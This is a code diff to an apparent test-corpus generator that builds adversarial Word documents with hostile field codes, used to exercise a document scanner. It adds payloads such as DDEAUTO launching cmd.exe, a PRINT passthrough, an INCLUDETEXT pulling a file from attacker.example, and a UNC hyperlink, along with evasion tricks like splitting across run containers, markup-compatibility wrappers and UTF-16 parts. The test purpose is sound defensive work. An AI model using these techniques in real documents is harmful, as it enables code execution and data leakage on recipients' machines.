@@ -28,7 +28,9 @@ RESULT = "表示結果"  # what the field shows; harmless, so only the instructi
 class FieldAttack:
     name: str
     instruction: str  # as Word stores it (backslashes doubled inside quoted arguments)
-    nested: str | None = None  # a QUOTE field whose result is the start of the instruction
+    nested: str | None = None  # a field inside the instruction (a QUOTE making the keyword, an INCLUDETEXT ...)
+    nested_at: int = 0  # where in the instruction the nested field stands
+    nested_result: str = "DDEAUTO"  # what the nested field last showed
 
 
 FIELDS: tuple[FieldAttack, ...] = (
@@ -45,6 +47,11 @@ FIELDS: tuple[FieldAttack, ...] = (
     FieldAttack("HYPERLINK-unc", r'HYPERLINK "\\\\attacker.example\\share\\a.exe"'),
     # { {QUOTE 68 68 69 65 85 84 79} c:\\windows\\system32\\cmd.exe "/k calc.exe" } -> DDEAUTO ...
     FieldAttack("QUOTE-nested-DDEAUTO", r' c:\\windows\\system32\\cmd.exe "/k calc.exe"', "QUOTE 68 68 69 65 85 84 79"),
+    # PRINT sends its argument to the printer driver (PostScript passthrough)
+    FieldAttack("PRINT", r'PRINT \p page "/f (calc.exe) def"'),
+    # a local IF whose branch is a field that reaches outside
+    FieldAttack("IF-nested-INCLUDETEXT", 'IF 1 = 1 "" "否"', r'INCLUDETEXT "http://attacker.example/a.docx"',
+                nested_at=10, nested_result="結果"),
 )
 
 RPR = "<w:rPr><w:b/><w:color w:val=\"FF0000\"/></w:rPr>"
@@ -104,6 +111,27 @@ def deleted(instruction: str) -> str:
     return first + DEL.format(id=901, runs=second)
 
 
+CONTAINERS = (
+    ('<w:ins w:id="{n}" w:author="adv" w:date="2024-01-01T00:00:00Z">', "</w:ins>"),
+    ('<w:sdt><w:sdtPr><w:id w:val="{n}"/></w:sdtPr><w:sdtContent>', "</w:sdtContent></w:sdt>"),
+    ('<w:customXml w:element="x{n}">', "</w:customXml>"),
+    ('<w:smartTag w:uri="urn:schemas-microsoft-com:office:smarttags" w:element="place">', "</w:smartTag>"),
+    ('<w:hyperlink w:anchor="_adv">', "</w:hyperlink>"),
+    ('<w:dir w:val="ltr">', "</w:dir>"),
+    ('<w:moveTo w:id="{n}" w:author="adv" w:date="2024-01-01T00:00:00Z">', "</w:moveTo>"),
+)
+
+
+def in_containers(instruction: str) -> str:
+    """Each character's run inside another run container Word reads through (tracked insertion,
+    content control, custom XML, smart tag, hyperlink, bidi, move)."""
+    out = []
+    for number, char in enumerate(instruction):
+        opening, closing = CONTAINERS[number % len(CONTAINERS)]
+        out.append(opening.format(n=700 + number) + _run(_instr(xml_text(char))) + closing)
+    return "".join(out)
+
+
 ENCODERS: dict[str, Encoder] = {
     "plain": plain,
     "char-per-run": per_char,
@@ -112,35 +140,57 @@ ENCODERS: dict[str, Encoder] = {
     "entity-split": entity_split,
     "odd-case-tabs": odd_case,
     "delInstrText-half": deleted,
+    "run-containers": in_containers,
 }
+
+
+def _with_nested(field: FieldAttack, encode: Encoder, nested: str) -> str:
+    at = field.nested_at
+    before = encode(field.instruction[:at]) if at else ""
+    return before + nested + encode(field.instruction[at:])
 
 
 def complex_field(field: FieldAttack, encode: Encoder, split_paragraphs: bool = False) -> list[str]:
     """The paragraphs holding one complex field."""
-    nested = ""
+    tail = _char("separate") + _run(f"<w:t>{RESULT}</w:t>") + _char("end")
     if field.nested is not None:
         nested = (_char("begin") + encode(field.nested) + _char("separate")
-                  + _run(f"<w:t>{xml_text('DDEAUTO')}</w:t>") + _char("end"))
-    head = _char("begin") + nested
-    tail = _char("separate") + _run(f"<w:t>{RESULT}</w:t>") + _char("end")
+                  + _run(f"<w:t>{xml_text(field.nested_result)}</w:t>") + _char("end"))
+        instruction = _with_nested(field, encode, nested)
+    else:
+        instruction = encode(field.instruction)
     if split_paragraphs:
-        middle = len(field.instruction) // 2
-        return [f"<w:p>{head}{encode(field.instruction[:middle])}</w:p>",
-                f"<w:p>{encode(field.instruction[middle:])}{tail}</w:p>"]
-    return [f"<w:p>{head}{encode(field.instruction)}{tail}</w:p>"]
+        text = field.instruction if field.nested is None else field.nested
+        middle = len(text) // 2
+        if field.nested is None:
+            first, second = encode(text[:middle]), encode(text[middle:])
+        else:  # cut inside the nested field's instruction
+            first = encode(field.instruction[:field.nested_at]) + _char("begin") + encode(text[:middle])
+            second = (encode(text[middle:]) + _char("separate") + _run(f"<w:t>{xml_text(field.nested_result)}</w:t>")
+                      + _char("end") + encode(field.instruction[field.nested_at:]))
+        return [f"<w:p>{_char('begin')}{first}</w:p>", f"<w:p>{second}{tail}</w:p>"]
+    return [f"<w:p>{_char('begin')}{instruction}{tail}</w:p>"]
+
+
+def _deleted_instruction(instruction: str) -> str:
+    return _run(_instr(xml_text(instruction), "delInstrText")) if instruction else ""
 
 
 def all_deleted_field(field: FieldAttack) -> list[str]:
-    """The whole field inside a tracked deletion (w:delInstrText, w:delText)."""
-    runs = (_char("begin") + _run(_instr(xml_text(field.instruction), "delInstrText")) + _char("separate")
-            + _run(f'<w:delText xml:space="preserve">{RESULT}</w:delText>') + _char("end"))
-    return [f"<w:p>{DEL.format(id=902, runs=runs)}</w:p>"]
+    """The whole field (nested ones too) inside a tracked deletion (w:delInstrText, w:delText)."""
+    out = []
+    for paragraph in complex_field(field, _deleted_instruction):
+        inner = paragraph[len("<w:p>"):-len("</w:p>")]
+        inner = inner.replace("<w:t>", '<w:delText xml:space="preserve">').replace("</w:t>", "</w:delText>")
+        out.append(f"<w:p>{DEL.format(id=902, runs=inner)}</w:p>")
+    return out
 
 
 def simple_field(field: FieldAttack, how: str = "plain") -> list[str]:
-    if field.nested is not None:  # the QUOTE as a simple field inside the complex field's instruction
-        quote = f'<w:fldSimple w:instr="{xml_text(field.nested)}"><w:r><w:t>DDEAUTO</w:t></w:r></w:fldSimple>'
-        return [f"<w:p>{_char('begin')}{quote}{plain(field.instruction)}{_char('separate')}"
+    if field.nested is not None:  # the nested field as a simple field inside the complex field's instruction
+        nested = (f'<w:fldSimple w:instr="{xml_text(field.nested)}"><w:r><w:t>{xml_text(field.nested_result)}'
+                  "</w:t></w:r></w:fldSimple>")
+        return [f"<w:p>{_char('begin')}{_with_nested(field, plain, nested)}{_char('separate')}"
                 f"<w:r><w:t>{RESULT}</w:t></w:r>{_char('end')}</w:p>"]
     instruction = field.instruction
     if how == "entity":
@@ -210,6 +260,13 @@ def in_fallback(paragraphs: list[str], package: Package) -> None:
                             f"<mc:Fallback>{''.join(paragraphs)}</mc:Fallback></mc:AlternateContent>")
 
 
+def in_process_content(paragraphs: list[str], package: Package) -> None:
+    """Inside an element of an ignorable namespace marked mc:ProcessContent: a markup-compatibility
+    reader drops the wrapper and reads what it holds."""
+    _before_sectpr(package, f'<x9:wrap xmlns:x9="urn:adversarial:unknown" xmlns:mc="{MC}" mc:Ignorable="x9" '
+                            f'mc:ProcessContent="x9:wrap">{"".join(paragraphs)}</x9:wrap>')
+
+
 def _story_part(package: Package, kind: str) -> str:
     """The header or footer part python-docx made (rewritten by name, not by assumption)."""
     names = sorted(n for n in package.parts if n.startswith(f"word/{kind}") and n.endswith(".xml"))
@@ -269,6 +326,7 @@ BODY_LOCATIONS: dict[str, Location] = {
     "textbox-dml-in-choice": in_dml_textbox,
     "mc-choice": in_choice,
     "mc-fallback": in_fallback,
+    "mc-processcontent": in_process_content,
     "footnote": partial(in_note, "footnotes"),
     "endnote": partial(in_note, "endnotes"),
     "comment": in_comment,
@@ -277,10 +335,12 @@ BODY_LOCATIONS: dict[str, Location] = {
 STORY_LOCATIONS: dict[str, Location] = {"header": in_header, "footer": in_footer}
 
 
-def _plant(paragraphs: list[str], location: Location, strict: bool, package: Package) -> None:
+def _plant(paragraphs: list[str], location: Location, strict: bool, package: Package, utf16: str = "") -> None:
     location(paragraphs, package)
     if strict:
         package.to_strict()
+    if utf16:
+        package.to_utf16(utf16)
 
 
 def _split_positions(field: FieldAttack) -> list[tuple[int, ...]]:
@@ -297,7 +357,7 @@ def _split_positions(field: FieldAttack) -> list[tuple[int, ...]]:
     return [(p,) for p in chosen] + [(1, keyword // 2 + 1, keyword + 3)]
 
 
-SIMPLE_EVERYWHERE = frozenset({"DDEAUTO", "INCLUDEPICTURE", "HYPERLINK-file", "DATABASE"})
+SIMPLE_EVERYWHERE = frozenset({"DDEAUTO", "INCLUDEPICTURE", "HYPERLINK-file", "DATABASE", "IF-nested-INCLUDETEXT"})
 
 
 def word_field_variants(base: str, stories: bool = True, full: bool = True) -> list[Variant]:
@@ -323,6 +383,9 @@ def word_field_variants(base: str, stories: bool = True, full: bool = True) -> l
             encoder = partial(split_at, cuts)
             add(field, how, "body", complex_field(field, encoder), in_body)
         add(field, "across-paragraphs", "body", complex_field(field, plain, split_paragraphs=True), in_body)
+        dirty = 'w:fldCharType="begin" w:dirty="true" w:fldLock="true"/>'  # update on open, then lock
+        add(field, "dirty-locked", "body", [p.replace('w:fldCharType="begin"/>', dirty)
+                                            for p in complex_field(field, plain)], in_body)
         add(field, "all-deleted", "body", all_deleted_field(field), in_body)
         add(field, "fldSimple", "body", simple_field(field), in_body)
         if field.nested is None:
@@ -337,6 +400,8 @@ def word_field_variants(base: str, stories: bool = True, full: bool = True) -> l
             add(field, "plain", where, complex_field(field, plain), location)
             if field.name in SIMPLE_EVERYWHERE:
                 add(field, "fldSimple", where, simple_field(field), location)
+        out.append(Variant("word-field", field.name, "utf16-part", "body", base,
+                           partial(_plant, complex_field(field, plain), in_body, False, utf16="word/document.xml")))
         add(field, "strict", "body", complex_field(field, plain), in_body, strict=True)
         add(field, "strict-char-per-run", "body", complex_field(field, per_char), in_body, strict=True)
         add(field, "strict-fldSimple", "body", simple_field(field), in_body, strict=True)
